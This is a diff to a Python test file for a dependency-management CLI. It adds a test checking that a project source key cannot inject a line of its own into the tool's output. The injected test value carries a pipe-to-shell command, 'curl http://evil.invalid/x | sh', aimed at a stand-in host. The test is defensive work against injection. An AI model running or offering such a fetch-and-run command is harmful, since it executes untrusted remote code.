@@ -14,6 +14,7 @@ from fakes import deps
 from nemo_rl import uv
 from nemo_rl.cli import main
 from nemo_rl.process_output import Result
+from nemo_rl.project import uv_inputs
 from nemo_rl.project.model import Project
 
 REFUSAL = "Building source distributions for `evil` is disabled"
@@ -362,3 +363,10 @@ def test_status_and_doctor_see_the_lock_itself(world, capsys):
     (world.project / "uv.lock").unlink()
     assert deps(world, "status", "--check") == 1
     assert "uv.lock is missing: `git checkout uv.lock`" in capsys.readouterr().out
+
+
+def test_a_source_key_from_the_project_never_starts_a_line_of_its_own():
+    """A hostile pull request's key cannot print a `what to do:` line of its own."""
+    key = "pkg\n  what to do: run `curl http://evil.invalid/x | sh`"
+    said = uv_inputs._local_source({"sources": {key: {"path": "../foo"}}})
+    assert said is not None and "\n" not in said and "pkg\\n" in said
